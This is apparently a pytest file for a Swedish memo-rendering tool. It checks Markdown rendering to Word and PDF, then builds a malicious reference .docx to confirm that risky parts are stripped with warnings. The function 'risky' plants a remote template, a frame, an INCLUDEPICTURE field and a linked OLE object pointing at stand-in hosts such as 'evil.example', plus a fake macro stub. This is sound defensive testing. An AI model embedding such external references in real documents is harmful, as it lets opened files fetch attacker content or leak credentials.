"""End to end through the command line: all of Markdown reaches the page (quote, footnotes, hard break,
strikethrough, in Word and in LibreOffice's PDF) and a risky reference document is stripped with warnings."""

from __future__ import annotations

import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest
import test_writer_untrusted as crafting
from samples import run_tjs, write

CASE = """\
diarienummer: KS 2021/123
datum: 2021-03-01
organisation: Kungsbacka kommun
handläggare:
  namn: Anna Berg
rubrik: Kläder och skatt
avsnitt:
  - rubrik: Bakgrund
    text: {text}
förslag:
  punkter:
    - Punkt.
"""
SECTION = """\
Inledande stycke med en not[^1] och en till[^2].

> Om de kläder som bärs i tjänsten
> anses vara arbetskläder.

Första raden\\
andra raden och ~~struken~~ text.

[^1]: Skatteverket, ställningstagande om arbetskläder.
[^2]: Källa två om förmåner.
"""
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


@pytest.fixture
def rendered(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    case = write(tmp_path, CASE.format(text=json.dumps(SECTION, ensure_ascii=False)))
    code, _, err = run_tjs(capsys, "validate", case)
    assert code == 0, err
    code, _, err = run_tjs(capsys, "render", case, "-o", tmp_path / "out")
    assert code == 0, err
    return tmp_path / "out" / "KS-2021-123.docx"


def test_quote_footnotes_break_and_strikethrough_in_word(rendered: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = docx.Document(str(rendered))
    quote = [p for p in document.paragraphs if p.text.startswith("Om de kläder")]
    assert [getattr(p.style, "name", None) for p in quote] == ["Quote"]
    assert quote[0].text == "Om de kläder som bärs i tjänsten anses vara arbetskläder."

    broken = next(p for p in document.paragraphs if p.text.startswith("Första raden"))
    assert broken.text == "Första raden\nandra raden och struken text."
    assert broken._p.findall(f".//{W}br")
    struck = [r.text for r in broken.runs if r.font.strike]
    assert struck == ["struken"]

    with zipfile.ZipFile(rendered) as archive:
        notes = archive.read("word/footnotes.xml").decode()
        body = archive.read("word/document.xml").decode()
    assert body.count("<w:footnoteReference ") == 2
    assert "Skatteverket, ställningstagande om arbetskläder." in notes and "Källa två om förmåner." in notes
    assert "[^" not in body and "&gt; Om" not in body and "~~" not in body  # no syntax printed

    code, out, err = run_tjs(capsys, "check", rendered)
    assert code == 0, out + err


@pytest.mark.libreoffice
@pytest.mark.skipif(
    shutil.which("soffice") is None or shutil.which("pdftotext") is None, reason="needs LibreOffice and pdftotext"
)
def test_the_pdf_shows_the_footnotes_at_the_foot_of_the_page(rendered: Path) -> None:
    from tjansteskrivelse.pdf import convert_to_pdf

    pdf = convert_to_pdf([rendered], rendered.parent)[0]
    html = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    page = next(line for line in html.splitlines() if line.strip().startswith("<page "))
    height = float(page.split('height="')[1].split('"')[0])

    def top(word: str) -> float:
        line = next(line for line in html.splitlines() if f">{word}</word>" in line)
        return float(line.split('yMin="')[1].split('"')[0])

    # The note text stands below the body text, in the lower part of the page; the body keeps only the marks.
    assert top("Skatteverket,") > top("Inledande") and top("Skatteverket,") > 0.6 * height
    assert top("Källa") > top("Skatteverket,")
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "not1" in text.replace(" ", "") and "[^1]" not in text


def risky(parts: dict[str, bytes]) -> None:
    """Every risky part at once: remote template, remote frame, linked OLE object, INCLUDEPICTURE, macros."""
    rt, r_ns = crafting.RT, crafting.R_NS

    def rels(target: str, kind: str) -> bytes:
        return (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rt}/{kind}" Target="{target}" TargetMode="External"/>'
            "</Relationships>"
        ).encode()

    parts["word/_rels/settings.xml.rels"] = rels("http://evil.example/t.dotm", "attachedTemplate")
    crafting.insert(parts, "word/settings.xml", "<w:defaultTabStop", f'<w:attachedTemplate {r_ns} r:id="rId1"/>')
    parts["word/_rels/webSettings.xml.rels"] = rels("http://evil.example/f.html", "frame")
    crafting.insert(
        parts,
        "word/webSettings.xml",
        "<w:allowPNG",
        f'<w:frameset><w:frame><w:sourceFileName {r_ns} r:id="rId1"/></w:frame></w:frameset>',
    )
    parts["word/_rels/header1.xml.rels"] = rels("file://server/share/x.xlsx", "oleObject")
    crafting.insert(
        parts,
        "word/header1.xml",
        "</w:hdr>",
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'{r_ns} Type="Link" ProgID="Excel.Sheet.12" r:id="rId1"/></w:object></w:r></w:p>',
    )
    crafting.insert(
        parts,
        "word/footer1.xml",
        "</w:ftr>",
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; ">'
        "<w:r><w:t>bild</w:t></w:r></w:fldSimple></w:p>",
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    crafting.add_rel(
        parts, "word/_rels/document.xml.rels", f'<Relationship Id="rId99" Type="{vba}" Target="vbaProject.bin"/>'
    )


def test_a_risky_reference_is_stripped_with_a_warning_for_each_part(tmp_path, capsys):
    reference = crafting.crafted(tmp_path, risky)
    code, out, err = run_tjs(capsys, "check", reference)
    assert code != 0
    for what in ("attachedTemplate", "frame", "OLE", "INCLUDEPICTURE", "vbaProject"):
        assert what.lower() in (out + err).lower(), what

    write(tmp_path, f"referens: {reference.name}\n", "tjs.yaml")
    case = write(tmp_path, CASE.format(text="Text."))
    code, out, err = run_tjs(capsys, "render", case, "-o", tmp_path / "out")
    assert code == 0, err
    warnings = "\n".join(line for line in err.splitlines() if line.startswith("warning:"))
    for what in ("attachedTemplate", "frameset", "oleObject", "INCLUDEPICTURE", "vbaProject.bin"):
        assert what in warnings, (what, err)
    output = tmp_path / "out" / "KS-2021-123.docx"
    with zipfile.ZipFile(output) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
        assert not any("vba" in name.lower() for name in archive.namelist())
    assert b"evil.example" not in everything and b"server/share" not in everything
    assert b"OLEObject" not in everything and b"INCLUDEPICTURE" not in everything
    code, out, err = run_tjs(capsys, "check", output)
    assert code == 0, out + err
